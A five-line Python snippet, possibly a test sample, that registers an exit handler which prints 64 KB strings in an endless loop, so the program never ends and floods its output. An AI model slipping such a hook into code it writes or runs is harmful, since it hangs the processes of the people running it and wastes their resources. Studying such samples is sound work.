import atexit
def flood():
    while True:
        print("x" * 65536)
atexit.register(flood)
